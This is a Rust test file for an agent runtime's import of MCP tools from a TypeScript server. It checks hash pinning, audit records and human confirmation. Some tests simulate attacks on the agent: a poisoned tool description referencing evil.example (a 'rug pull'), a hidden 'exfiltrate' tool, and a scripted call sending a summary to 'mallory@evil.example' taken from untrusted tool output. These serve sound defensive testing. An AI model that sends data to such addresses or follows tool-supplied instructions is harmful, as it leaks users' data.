//! Tools imported from an MCP server written with another SDK: the official TypeScript SDK
//! (`@modelcontextprotocol/sdk`), in `tests/fixtures/ts-mcp-server/server.mjs`, started by the
//! tests with `node` over stdio and over streamable HTTP on loopback. Its pins are the
//! `ts_notes` entry of `tests/mcp_import.lock.json`, written by `agents mcp pin`.
//!
//! Needs node 20 and the fixture's packages: `npm ci --no-audit --no-fund` in
//! `tests/fixtures/ts-mcp-server` (`.ci/run` does it). Without them every test here fails and
//! says so.

use crate::import_common;
use crate::run_common;

use agents_mcp::{ImportSource, McpImports, pin_server};
use agents_runtime::audit::{AuditImport, AuditStatus, MemorySink};
use agents_runtime::events::Event;
use agents_runtime::provider::ScriptedProvider;
use agents_runtime::provider::scripted::{reply, tool_call};
use agents_runtime::{
    Principal, RoleMap, RunResultExt, RunStatus, Runtime, Tool, ToolContext, Verdict, agent, mcp_import, permissions,
    tool,
};
use import_common::*;
use run_common::*;
use std::path::{Path, PathBuf};
use std::sync::Arc;

permissions! {
    pub mod perms { notes.read, notes.write }
}

mcp_import! {
    server = "ts_notes", lock = "tests/mcp_import.lock.json";
    /// The notes search of the TypeScript server.
    #[tool(permission = perms::notes::read, risk = low)]
    pub fn search;
    #[tool(permission = perms::notes::write, mutating, title = "Add a note", risk = high)]
    pub fn add_note;
    #[tool(permission = perms::notes::read)]
    pub fn crash;
}

/// The same tools, pinned where the server serves over loopback HTTP.
mod over_http {
    use super::perms;
    use agents_runtime::{agent, mcp_import};

    mcp_import! {
        server = "ts_notes_http", lock = "tests/mcp_import.lock.json";
        #[tool(permission = perms::notes::read, risk = low)]
        pub fn search;
        #[tool(permission = perms::notes::write, mutating, title = "Add a note", risk = high)]
        pub fn add_note;
    }

    agent! {
        /// Keeps notes through the TypeScript server, reached over HTTP.
        pub struct TsNotesHttp;
        tools: [search, add_note],
    }
}

/// Sends a summary to an address outside the application.
///
/// # Arguments
///
/// * `to` - the recipient
#[tool(permission = perms::notes::read, egress)]
async fn send_summary(cx: &ToolContext<'_>, to: String) -> Result<String, String> {
    let _ = cx;
    SENT.lock().unwrap().push(to);
    Ok("sent".into())
}

static SENT: std::sync::Mutex<Vec<String>> = std::sync::Mutex::new(Vec::new());

agent! {
    /// Keeps notes through a server written with the TypeScript SDK.
    pub struct TsNotes;
    tools: [search, add_note, crash],
}

agent! {
    /// Keeps notes through the TypeScript server and sends summaries out.
    pub struct TsMailer;
    tools: [search, send_summary],
}

const LOCK: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/mcp_import.lock.json");

/// The TypeScript server's script, once its packages are installed; a test without them fails
/// here, saying what to run.
fn server_script() -> PathBuf {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/ts-mcp-server");
    assert!(
        dir.join("node_modules/@modelcontextprotocol/sdk/package.json").is_file(),
        "the TypeScript MCP server's packages are not installed: run `cargo xtask setup` (or `cargo xtask test`), which installs them, or `npm ci --no-audit --no-fund` in {} (node 20 and npm)",
        dir.display()
    );
    let node = std::process::Command::new("node").arg("--version").output();
    assert!(
        node.as_ref().is_ok_and(|o| o.status.success()),
        "`node` does not run ({node:?}): install node 20 (`cargo xtask setup` does) to start the TypeScript MCP server in {}",
        dir.display()
    );
    dir.join("server.mjs")
}

fn me() -> Principal {
    Principal::new("u1", "org1", "clerk")
}

fn roles() -> RoleMap {
    RoleMap::new().role("clerk", ["notes.read", "notes.write"])
}

/// The TypeScript server over stdio, wired to `files`.
fn ts_stdio(files: &ServerFiles) -> ImportSource {
    files.wired(ImportSource::stdio("node").arg(server_script().display().to_string()))
}

fn runtime(
    imports: Arc<McpImports>,
    script: Vec<agents_runtime::provider::ChatResponse>,
) -> (Runtime, Arc<MemorySink>, Arc<ScriptedProvider>) {
    import_runtime(imports, roles(), script)
}

/// What the one record of `tool`'s call with `status` says of the import (it must say it).
fn named(audit: &MemorySink, tool: &str, status: AuditStatus) -> AuditImport {
    let records: Vec<_> =
        audit.records().into_iter().filter(|r| r.tool.as_deref() == Some(tool) && r.status == status).collect();
    assert_eq!(records.len(), 1, "one `{status:?}` record of `{tool}`: {records:?}");
    records[0].import.clone().unwrap_or_else(|| panic!("the record does not name the import: {:?}", records[0]))
}

fn pin_of<T: Tool>() -> &'static str {
    T::SPEC.import.expect("an imported tool").sha256
}

/// Grants, calls and confirms on a server reached at `source`; `effects` reads what it did.
async fn read_then_confirmed_action<A: agents_runtime::Registry<Input = String, Output = String>>(
    (server, source): (&str, ImportSource),
    described: &str,
    effects: impl Fn() -> Vec<String>,
) {
    let imports = Arc::new(McpImports::new().server(server, source));
    let (rt, audit, provider) = runtime(
        imports.clone(),
        vec![
            tool_call("search", r#"{"query": "vendor"}"#),
            tool_call("add_note", r#"{"text": "call the vendor"}"#),
            reply("added"),
        ],
    );
    let mut run = rt.start::<A>(me(), "ts", "note it".into()).unwrap();
    let call_id = confirm_required(&mut run).await;
    assert!(effects().is_empty(), "nothing reaches the server before the decision");
    rt.decide(&call_id, &me(), Verdict::Approve).unwrap();
    let out = run.wait().await;
    assert_eq!(out.status(), RunStatus::Completed, "{out:?}");
    assert_eq!(effects(), ["add_note call the vendor"]);
    let told = tool_messages(&provider.requests()[1]);
    assert_eq!(told[0].1, "\"found 1 note about vendor\"", "{told:?}");
    assert_eq!(tool_statuses(&audit, "search"), [AuditStatus::Notice, AuditStatus::Proposed, AuditStatus::Executed]);
    assert_eq!(
        call_statuses(&audit, &call_id),
        [AuditStatus::Notice, AuditStatus::Proposed, AuditStatus::Confirmed, AuditStatus::Executed]
    );
    // Every record of both calls names the server, where it is reached, its tool and the pin.
    for (tool, pin, statuses) in [
        ("search", pin_of::<search>(), &[AuditStatus::Notice, AuditStatus::Proposed, AuditStatus::Executed][..]),
        (
            "add_note",
            pin_of::<add_note>(),
            &[AuditStatus::Notice, AuditStatus::Proposed, AuditStatus::Confirmed, AuditStatus::Executed],
        ),
    ] {
        for &status in statuses {
            assert_eq!(
                named(&audit, tool, status),
                AuditImport {
                    server: server.into(),
                    source: Some(described.to_owned()),
                    tool: tool.into(),
                    sha256: pin.into(),
                    listed_sha256: None,
                }
            );
        }
    }
    // The server's result is another party's text: later arguments copied from it are checked.
    assert!(<search as Tool>::SPEC.returns_untrusted());
    imports.close().await;
}

#[tokio::test]
async fn a_read_and_a_confirmed_action_run_on_a_typescript_server_over_stdio() {
    let files = ServerFiles::new();
    let described = format!("stdio: node {}", server_script().display());
    read_then_confirmed_action::<TsNotes>(("ts_notes", ts_stdio(&files)), &described, || files.effects()).await;
}

/// The TypeScript server over streamable HTTP on loopback, and the URL it listens on.
async fn ts_http(files: &ServerFiles) -> (tokio::process::Child, String) {
    use tokio::io::AsyncBufReadExt;
    let mut child = tokio::process::Command::new("node")
        .arg(server_script())
        .arg("--http")
        .env("FIXTURE_STATE", files.path("state"))
        .env("FIXTURE_EFFECTS", files.path("effects"))
        .stderr(std::process::Stdio::piped())
        .stdout(std::process::Stdio::null())
        .kill_on_drop(true)
        .spawn()
        .expect("node starts");
    let mut lines = tokio::io::BufReader::new(child.stderr.take().unwrap()).lines();
    let url = tokio::time::timeout(std::time::Duration::from_secs(60), async {
        while let Some(line) = lines.next_line().await.unwrap() {
            if let Some(url) = line.split("listening on ").nth(1) {
                return url.trim().to_owned();
            }
        }
        panic!("the TypeScript server ended without listening");
    })
    .await
    .expect("the TypeScript server listens within 60 s");
    (child, url)
}

#[tokio::test]
async fn a_read_and_a_confirmed_action_run_on_a_typescript_server_over_http() {
    let files = ServerFiles::new();
    let (mut child, url) = ts_http(&files).await;
    let described = format!("http: {url}");
    read_then_confirmed_action::<over_http::TsNotesHttp>(
        ("ts_notes_http", ImportSource::http(url)),
        &described,
        || files.effects(),
    )
    .await;
    child.kill().await.unwrap();
}

#[tokio::test]
async fn a_rug_pull_by_the_typescript_server_is_refused_and_audited_with_both_hashes() {
    let files = ServerFiles::new();
    let imports = Arc::new(McpImports::new().server("ts_notes", ts_stdio(&files)));
    let search_call = || vec![tool_call("search", r#"{"query": "vendor"}"#), reply("done")];

    let (rt, audit, _provider) = runtime(imports.clone(), search_call());
    let _ = rt.start::<TsNotes>(me(), "ts-rug-1", "find".into()).unwrap().wait().await;
    assert_eq!(tool_statuses(&audit, "search"), [AuditStatus::Notice, AuditStatus::Proposed, AuditStatus::Executed]);

    // The server's next listing gives a poisoned description: refused before anything is sent.
    files.set("rug-pull");
    let (rt, audit, provider) = runtime(imports.clone(), search_call());
    let _ = rt.start::<TsNotes>(me(), "ts-rug-2", "find".into()).unwrap().wait().await;
    let told = &tool_messages(&provider.requests()[1])[0];
    assert!(told.2 && told.1.contains("changed the description or input schema"), "{told:?}");
    assert!(!told.1.contains("evil.example"), "the changed text never reaches the model");
    assert!(!serde_json::to_string(&provider.requests()[0].tools).unwrap().contains("evil.example"));
    assert_eq!(tool_statuses(&audit, "search"), [AuditStatus::Notice, AuditStatus::Proposed, AuditStatus::Failed]);
    let refused = named(&audit, "search", AuditStatus::Failed);
    assert_eq!(refused.sha256, pin_of::<search>());
    let now = refused.listed_sha256.clone().expect("the refusal names what the server gives now");
    assert_ne!(now, refused.sha256);
    let live = pin_server("ts_notes", &ts_stdio(&files)).await.unwrap();
    assert_eq!(now, live.tools["search"].sha256, "the recorded hash is the poisoned listing's pin");
    let why = audit.records().iter().find(|r| r.status == AuditStatus::Failed).unwrap().reason.clone().unwrap();
    assert!(why.contains(&now) && why.contains(pin_of::<search>()), "{why}");

    // Back to what was pinned: the tool is back.
    files.set("v1");
    let (rt, audit, _provider) = runtime(imports.clone(), search_call());
    let _ = rt.start::<TsNotes>(me(), "ts-rug-3", "find".into()).unwrap().wait().await;
    assert_eq!(tool_statuses(&audit, "search"), [AuditStatus::Notice, AuditStatus::Proposed, AuditStatus::Executed]);
    imports.close().await;
}

#[tokio::test]
async fn a_tool_the_typescript_server_adds_is_invisible() {
    let files = ServerFiles::new();
    files.set("added");
    let imports = Arc::new(McpImports::new().server("ts_notes", ts_stdio(&files)));
    let (rt, audit, provider) = runtime(
        imports.clone(),
        vec![tool_call("search", r#"{"query": "x"}"#), tool_call("exfiltrate", "{}"), reply("done")],
    );
    let _ = rt.start::<TsNotes>(me(), "ts-added", "go".into()).unwrap().wait().await;
    assert_eq!(offered(&provider.requests()[0]), ["add_note", "crash", "search"]);
    assert_eq!(tool_statuses(&audit, "search"), [AuditStatus::Notice, AuditStatus::Proposed, AuditStatus::Executed]);
    assert_eq!(tool_statuses(&audit, "exfiltrate"), [AuditStatus::Denied]);
    assert!(!files.effects().iter().any(|e| e == "exfiltrate"));
    // The server does offer it: only the pins decide what the agent sees.
    let live = pin_server("ts_notes", &ts_stdio(&files)).await.unwrap();
    assert!(live.tools.contains_key("exfiltrate"));
    imports.close().await;
}

#[tokio::test]
async fn a_typescript_server_that_dies_mid_call_gives_a_clear_error_and_an_audited_outcome() {
    let files = ServerFiles::new();
    let imports = Arc::new(McpImports::new().server("ts_notes", ts_stdio(&files)));
    let (rt, audit, provider) = runtime(imports.clone(), vec![tool_call("crash", "{}"), reply("it failed")]);
    let out = rt.start::<TsNotes>(me(), "ts-dies", "go".into()).unwrap().wait().await;
    assert_eq!(out.status(), RunStatus::Completed, "{out:?}");
    assert_eq!(files.effects(), ["crash"], "the call reached the server, which then ended");
    let told = &tool_messages(&provider.requests()[1])[0];
    assert!(
        told.2 && told.1.contains("ended during the call of `crash`") && told.1.contains("outcome is unknown"),
        "{told:?}"
    );
    assert_eq!(tool_statuses(&audit, "crash"), [AuditStatus::Notice, AuditStatus::Proposed, AuditStatus::Failed]);
    let failed = audit.records().into_iter().find(|r| r.status == AuditStatus::Failed).unwrap();
    assert!(failed.reason.as_deref().unwrap().contains("ended during the call"), "{failed:?}");
    assert_eq!(failed.import.unwrap().sha256, pin_of::<crash>());

    // The next call starts the server again and checks the pins before sending anything.
    let (rt, audit, _provider) = runtime(imports.clone(), vec![tool_call("search", r#"{"query": "x"}"#), reply("ok")]);
    let _ = rt.start::<TsNotes>(me(), "ts-dies-after", "go".into()).unwrap().wait().await;
    assert_eq!(tool_statuses(&audit, "search"), [AuditStatus::Notice, AuditStatus::Proposed, AuditStatus::Executed]);
    imports.close().await;
}

#[tokio::test]
async fn the_lock_file_matches_the_typescript_server() {
    let lock = agents_runtime::agents_core::mcp_lock::LockFile::parse(&std::fs::read_to_string(LOCK).unwrap()).unwrap();
    let files = ServerFiles::new();
    let live = pin_server("ts_notes", &ts_stdio(&files)).await.unwrap();
    assert_eq!(
        live.tools, lock.servers["ts_notes"].tools,
        "the TypeScript server no longer says what `tests/mcp_import.lock.json` pins: re-pin with `agents mcp pin --server ts_notes --stdio \"node tests/fixtures/ts-mcp-server/server.mjs\" --out tests/mcp_import.lock.json` and review the diff"
    );
}

#[tokio::test]
async fn a_value_copied_from_an_imported_result_into_a_tool_that_reaches_out_waits_for_a_person() {
    let files = ServerFiles::new();
    let imports = Arc::new(McpImports::new().server("ts_notes", ts_stdio(&files)));
    let (rt, audit, _provider) = runtime(
        imports.clone(),
        vec![
            tool_call("search", r#"{"query": "mail"}"#),
            tool_call("send_summary", r#"{"to": "mallory@evil.example"}"#),
            reply("done"),
        ],
    );
    let mut run = rt.start::<TsMailer>(me(), "ts-egress", "summarise my mail notes".into()).unwrap();
    let mut cards = Vec::new();
    while let Some(e) = run.events().recv().await {
        match e {
            Event::ConfirmRequired { call_id, why, .. } => {
                cards.push(why);
                rt.decide(&call_id, &me(), Verdict::Reject).unwrap();
            }
            Event::Done { .. } => break,
            _ => {}
        }
    }
    let _ = run.wait().await;
    // The recipient came from the server's result, not from the user: a person decides first.
    assert_eq!(cards.len(), 1, "{cards:?}");
    assert!(
        cards[0].as_deref().is_some_and(|w| w.contains("the result of `search`")),
        "the card names the source: {cards:?}"
    );
    assert!(SENT.lock().unwrap().is_empty(), "declined: nothing was sent");
    assert_eq!(tool_statuses(&audit, "send_summary").last(), Some(&AuditStatus::Rejected));
    imports.close().await;
}
